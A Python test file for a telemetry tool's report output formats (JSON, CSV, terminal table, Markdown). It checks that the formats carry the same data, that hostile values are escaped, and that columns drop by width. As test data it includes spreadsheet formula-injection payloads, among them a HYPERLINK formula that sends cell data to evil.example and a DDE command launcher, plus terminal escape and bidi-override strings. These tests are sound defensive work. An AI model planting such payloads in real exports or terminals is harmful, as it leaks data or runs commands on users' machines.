"""Output formats, on reports built by hand: every format carries the same data."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import unicodedata
from typing import Any, List

import pytest

from telemetry_orm.formats import (
    EXPORT_FORMATS,
    REPORT_FORMATS,
    render_report,
    render_stats,
    write_rows,
)
from telemetry_orm.reports import (
    METRICS,
    DatabaseStats,
    Metrics,
    Report,
    ReportFilters,
    ReportRow,
)

UTC = dt.timezone.utc


def metrics(executions: int, cost: float, **extra: Any) -> Metrics:
    values = dict(
        executions=executions, input_tokens=1_234_567 * executions, output_tokens=89_000,
        cache_read_tokens=12_000_000, cache_creation_tokens=3, cost_usd=cost,
        avg_duration_ms=61_234.5, p95_duration_ms=150_003, failed=1,
    )
    values.update(extra)
    values["total_tokens"] = sum(
        values[k] for k in ("input_tokens", "output_tokens", "cache_read_tokens",
                            "cache_creation_tokens")
    )
    return Metrics(**values)


@pytest.fixture
def sample() -> Report:
    rows = (
        ReportRow({"repo": "acme/api", "pr_number": 12}, metrics(3, 1234.5)),
        ReportRow({"repo": "pipe|name/x", "pr_number": None}, metrics(1, 0.004)),
    )
    return Report(
        generated_at=dt.datetime(2025, 6, 1, 8, 30, tzinfo=UTC),
        filters=ReportFilters(since=dt.datetime(2025, 5, 2, tzinfo=UTC), model="m"),
        group_by=("pr",),
        key_names=("repo", "pr_number"),
        rows=rows,
        totals=metrics(4, 1234.504, avg_duration_ms=None, p95_duration_ms=None),
    )


def test_json_has_the_documented_shape_and_raw_values(sample: Report) -> None:
    document = json.loads(render_report(sample, "json"))
    assert list(document) == ["generated_at", "filters", "group_by", "cost", "totals",
                              "unpriced", "from_rollups", "incomplete_before", "rows"]
    assert document["cost"] == "recorded" and document["unpriced"] == {}
    assert document["generated_at"] == "2025-06-01T08:30:00Z"
    assert document["filters"] == {
        "since": "2025-05-02T00:00:00Z", "until": None, "repo": None, "model": "m",
        "event_type": None, "conclusion": None, "tz": "UTC", "labels": {},
    }
    assert document["group_by"] == ["pr"]
    assert document["totals"] == sample.totals.as_dict()
    assert list(document["totals"]) == list(METRICS)
    assert document["rows"] == [row.as_dict() for row in sample.rows]
    assert list(document["rows"][0]) == ["repo", "pr_number", *METRICS]


def test_csv_is_one_header_then_the_rows_and_nothing_else(sample: Report) -> None:
    text = render_report(sample, "csv")
    table = list(csv.reader(io.StringIO(text)))
    assert table[0] == ["repo", "pr_number", *METRICS]
    assert len(table) == 1 + len(sample.rows)
    first = dict(zip(table[0], table[1], strict=True))
    assert first["repo"] == "acme/api"
    assert int(first["executions"]) == 3
    assert float(first["cost_usd"]) == 1234.5
    assert table[2][1] == ""  # None


def test_table_has_aligned_columns_a_totals_line_dollars_and_separators(sample: Report) -> None:
    text = render_report(sample, "table")
    caption, blank, header, rule, *body, rule2, totals = text.rstrip("\n").split("\n")
    assert caption == "Executions since 2025-05-02 00:00:00 UTC, model=m, by pr"
    assert blank == ""
    assert rule == rule2 and set(rule) == {"-", " "}
    # Every column ends where its rule ends (numbers are right-aligned).
    ends = [m.end() for m in re.finditer(r"-+", rule)]
    for line in (header, *body, totals):
        for end in ends[2:]:
            assert line[end - 1] != " ", (line, end)
    assert totals.startswith("TOTAL ")
    assert "$1,234.50" in body[0] and "$0.00" in body[1]
    assert "3,703,701" in body[0]  # input tokens of the first row
    assert "$1,234.50" in totals
    assert totals.split()[-3:-1] == ["-", "-"]  # no average, no percentile


def test_markdown_is_a_table_ready_for_a_pull_request(sample: Report) -> None:
    lines = render_report(sample, "markdown").rstrip("\n").split("\n")
    assert all(line.startswith("| ") or line.startswith("|:") for line in lines)
    assert lines[0].startswith("| repo | PR | executions |")
    assert lines[1] == "|:---|:---|" + "|".join(["---:"] * len(METRICS)) + "|"
    assert "pipe\\|name/x" in lines[3]
    assert lines[-1].startswith("| **TOTAL** |  | **4** |")
    assert lines[0].count(" | ") == lines[2].count(" | ")


@pytest.mark.parametrize("fmt", REPORT_FORMATS)
def test_every_format_handles_an_empty_report(fmt: str) -> None:
    empty = Report(
        generated_at=dt.datetime(2025, 1, 1, tzinfo=UTC), filters=ReportFilters(),
        group_by=("repo",), key_names=("repo",), rows=(), totals=Metrics(),
    )
    text = render_report(empty, fmt)
    if fmt == "json":
        assert json.loads(text)["rows"] == []
    elif fmt == "csv":
        assert list(csv.reader(io.StringIO(text))) == [["repo", *METRICS]]
    else:
        assert "TOTAL" in text


def test_unknown_formats_are_refused(sample: Report) -> None:
    with pytest.raises(ValueError, match="xml"):
        render_report(sample, "xml")
    with pytest.raises(ValueError, match="xml"):
        write_rows(["a"], [], "xml", io.StringIO())


@pytest.mark.parametrize("fmt", EXPORT_FORMATS)
def test_exported_rows_round_trip(fmt: str) -> None:
    columns = ["id", "repo", "pr_number", "cost_usd"]
    rows: List[Any] = [(1, "a/b", None, 0.5), (2, 'quo"te,comma', 7, 0.0)]
    out = io.StringIO()
    assert write_rows(columns, iter(rows), fmt, out) == 2
    if fmt == "csv":
        table = list(csv.reader(io.StringIO(out.getvalue())))
        assert table == [columns, ["1", "a/b", "", "0.5"], ["2", 'quo"te,comma', "7", "0.0"]]
    else:
        decoded = [json.loads(line) for line in out.getvalue().splitlines()]
        assert decoded == [dict(zip(columns, row, strict=True)) for row in rows]


def test_stats_as_json_and_table() -> None:
    stats = DatabaseStats(
        path="t.db", rows=1_234_567, oldest="2025-01-01 00:00:00", newest=None,
        file_bytes=4096, wal_bytes=0, schema_version=1, journal_mode="wal",
    )
    assert json.loads(render_stats(stats, "json"))["rows"] == 1_234_567
    table = render_stats(stats, "table")
    assert re.search(r"^rows +1,234,567$", table, re.M)
    assert re.search(r"^newest +-$", table, re.M)
    assert re.search(r"^file_bytes +4,096 bytes$", table, re.M)
    assert re.search(r"^rollup_executions +0$", table, re.M)


# --- CSV cells a spreadsheet would run ---------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+2",
            "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "'=1", "'", "''"]


def test_csv_text_cells_a_spreadsheet_would_run_get_a_quote_numbers_stay() -> None:
    columns = ["id", "text", "pr_number", "cost_usd"]
    rows = [(n, value, -5, -1.5) for n, value in enumerate(FORMULAS)]
    rows.append((99, "plain -text", None, 0.0))
    out = io.StringIO()
    write_rows(columns, iter(rows), "csv", out)
    table = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert table[0] == columns
    assert [row[1] for row in table[1:-1]] == ["'" + value for value in FORMULAS]
    assert table[-1] == ["99", "plain -text", "", "0.0"]
    # Numbers are no text: a negative one stays a number for the spreadsheet.
    assert {(row[2], row[3]) for row in table[1:-1]} == {("-5", "-1.5")}


def test_a_csv_report_guards_its_group_values() -> None:
    rows = tuple(ReportRow({"repo": value, "model": "@m"}, metrics(1, 1.0)) for value in FORMULAS)
    hostile = Report(generated_at=dt.datetime(2025, 6, 1, tzinfo=UTC), filters=ReportFilters(),
                     group_by=("repo", "model"), key_names=("repo", "model"), rows=rows,
                     totals=metrics(len(rows), float(len(rows))))
    table = list(csv.reader(io.StringIO(render_report(hostile, "csv"), newline="")))
    assert [row[:2] for row in table[1:]] == [["'" + value, "'@m"] for value in FORMULAS]
    for row in table[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in row)


# --- text for people ------------------------------------------------------------------

#: Names that would act on a terminal or fake the table's layout.
ATTACKS = [
    "\x1b]0;owned\x07title",                 # sets the terminal's title
    "\x1b[2J\x1b[Hclear",                   # clears the screen
    "evil\nTOTAL                 999",     # a fake totals line
    "cr\rover",
    "rtl\u202etxt.exe",                     # right-to-left override
    "iso\u2066late\u2069", "line\u2028sep", "para\u2029sep",
    "c1\x9b31mred", "del\x7f", "nul\x00", "back\\slash", "pipe|cell",
]
#: What no line of a table or Markdown report may contain.
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u061c\u200e\u200f"
                 "\u202a-\u202e\u2066-\u2069]")


def hostile_report() -> Report:
    rows = tuple(ReportRow({"repo": name, "model": name}, metrics(1, 1.0)) for name in ATTACKS)
    return Report(
        generated_at=dt.datetime(2025, 6, 1, tzinfo=UTC),
        filters=ReportFilters(repo="\x1b[31mred", since=dt.datetime(2025, 5, 1, tzinfo=UTC)),
        group_by=("repo", "model"), key_names=("repo", "model"), rows=rows,
        totals=metrics(len(rows), float(len(rows))), unpriced={"un\x1b[1mpriced": 3},
    )


def test_the_table_shows_control_characters_escaped() -> None:
    text = render_report(hostile_report(), "table")
    assert not RAW.search(text), RAW.search(text)
    lines = text.split("\n")
    table = lines[2:2 + 2 + len(ATTACKS) + 2]
    assert [line for line in lines if line.startswith("TOTAL")] == [table[-1]]
    for name, line in zip(ATTACKS, table[2:-2], strict=True):
        shown = (name.encode("unicode_escape").decode("ascii")
                 if not name.isascii() or not name.isprintable() or "\\" in name else name)
        assert line.startswith(shown + " "), (line, shown)
    assert "\\x1b]0;owned\\x07title" in text and "evil\\nTOTAL" in text
    assert "rtl\\u202etxt.exe" in text and "back\\\\slash" in text
    assert "repo=\\x1b[31mred" in lines[0]
    assert "un\\x1b[1mpriced (3)" in text


def test_markdown_shows_control_characters_escaped_and_pipes_inside_cells() -> None:
    lines = render_report(hostile_report(), "markdown").rstrip("\n").split("\n")
    table = lines[:2 + len(ATTACKS) + 1]
    assert not any(RAW.search(line) for line in lines)
    columns = 2 + len(METRICS)
    for line in table:
        # Only the cell borders are unescaped pipes ("\\|" is a backslash
        # shown, then a border; "\|" a pipe inside a cell).
        assert len(re.findall(r"(?<!\\)(?:\\\\)*\|", line)) == columns + 1, line
    assert "| pipe\\|cell | pipe\\|cell |" in table[2 + ATTACKS.index("pipe|cell")]
    assert "| back\\\\slash |" in table[2 + ATTACKS.index("back\\slash")]


# --- the table in a width -------------------------------------------------------------


#: The order docs/cli.md gives for the columns a narrow table leaves out.
DROP_ORDER = ("cache_creation_tokens", "cache_read_tokens", "p95_duration_ms",
              "avg_duration_ms", "output_tokens", "input_tokens", "failed", "total_tokens")


def wide_report(repos: List[str]) -> Report:
    rows = tuple(
        ReportRow({"model": f"claude-sonnet-4-{n}", "repo": repo},
                  metrics(1_234 + n, 12_345.67, cache_read_tokens=123_456_789_012,
                          cache_creation_tokens=98_765_432, p95_duration_ms=1_234_567))
        for n, repo in enumerate(repos))
    return Report(generated_at=dt.datetime(2025, 6, 1, tzinfo=UTC),
                  filters=ReportFilters(since=dt.datetime(2025, 5, 1, tzinfo=UTC)),
                  group_by=("model", "repo"), key_names=("model", "repo"), rows=rows,
                  totals=metrics(9_999, 99_999.99))


def table_lines(text: str) -> List[str]:
    """The lines of the table itself: header, rule, rows, rule, totals."""
    lines = text.split("\n")
    start = next(i for i, line in enumerate(lines) if line and set(line) <= {"-", " "}) - 1
    end = next(i for i, line in enumerate(lines) if line.startswith("TOTAL")) + 1
    return lines[start:end]


def columns_of(text: str) -> List[str]:
    """The header cells of a table (separated by two spaces or more)."""
    return re.split(r"\s{2,}", table_lines(text)[0].strip())


def test_without_a_width_the_table_has_every_column() -> None:
    text = render_report(wide_report(["acme/api", "acme/web"]), "table")
    assert columns_of(text) == ["model", "repo", "executions", "input", "output", "cache read",
                                "cache write", "total tokens", "cost", "avg ms", "p95 ms",
                                "failed"]
    assert max(len(line) for line in text.split("\n")) > 120
    assert "Not shown" not in text


@pytest.mark.parametrize("width", [80, 100, 120])
def test_the_table_fits_its_width_dropping_columns_in_the_documented_order(width: int) -> None:
    full = wide_report(["acme/api", "globex/billing-and-invoices", "umbrella/research"])
    text = render_report(full, "table", width=width)
    assert max(len(line) for line in text.split("\n")) <= width
    shown = columns_of(text)
    labels = {"executions": "execs", "input_tokens": "input", "output_tokens": "output",
              "cache_read_tokens": "cache rd", "cache_creation_tokens": "cache wr",
              "total_tokens": "tokens", "cost_usd": "cost", "avg_duration_ms": "avg ms",
              "p95_duration_ms": "p95 ms", "failed": "fail"}
    assert shown[:3] == ["model", "repo", "execs"] and "cost" in shown
    left_out = [m for m in DROP_ORDER if labels[m] not in shown]
    # What is left out is the start of the documented order, and named.
    assert left_out == list(DROP_ORDER[:len(left_out)])
    assert [labels[m] for m in METRICS if m not in left_out] == shown[2:]
    if left_out:
        # Each column left out had to go: with the last one back, the
        # table would not fit (its width taken from the full table).
        lines = table_lines(render_report(full, "table"))
        spans = [m.span() for m in re.finditer(r"-+", lines[1])]
        start, end = spans[2 + METRICS.index(left_out[-1])]
        back = max([len(line[start:end].strip()) for line in lines[2:]]
                   + [len(labels[left_out[-1]])])
        assert max(len(line) for line in table_lines(text)) + 2 + back > width
    names = {"cache_creation_tokens": "cache write", "cache_read_tokens": "cache read",
             "p95_duration_ms": "p95 ms", "avg_duration_ms": "avg ms", "input_tokens": "input",
             "output_tokens": "output", "failed": "failed", "total_tokens": "total tokens"}
    if left_out:
        note = " ".join(text.split("\n\n")[-1].split())
        assert f"Not shown in {width} columns: " + ", ".join(
            names[m] for m in left_out) in note
    # The figures shown are the report's.
    body = table_lines(text)[2:-2]
    for row, line in zip(full.rows, body, strict=True):
        assert line.startswith(f"{row.keys['model']}  {row.keys['repo']}")
        assert f"{row.metrics.executions:,}" in line and "$12,345.67" in line


def test_long_group_values_are_cut_with_an_ellipsis() -> None:
    long = "acme/" + "very-long-repository-name-" * 4
    wide = "漢字" * 30  # two columns each
    report = wide_report([long, wide, "acme/api"])
    text = render_report(report, "table", width=80)

    def cells(line: str) -> int:
        return sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in line)

    assert max(cells(line) for line in text.split("\n")) <= 80
    first, second, third = table_lines(text)[2:-2]
    cut = first.split("  ")[1]
    assert cut.endswith("…") and long.startswith(cut[:-1]) and len(cut) < len(long)
    cut = second.split("  ")[1]
    assert cut.endswith("…") and wide.startswith(cut[:-1])
    assert "acme/api  " in third
    ascii_text = render_report(report, "table", width=80, encoding="ascii")
    assert "..." in ascii_text and "…" not in ascii_text
    # So narrow that every droppable column is gone: values are cut further.
    narrow = render_report(report, "table", width=44)
    assert max(cells(line) for line in table_lines(narrow)) <= 44
    assert columns_of(narrow) == ["model", "repo", "execs", "cost"]
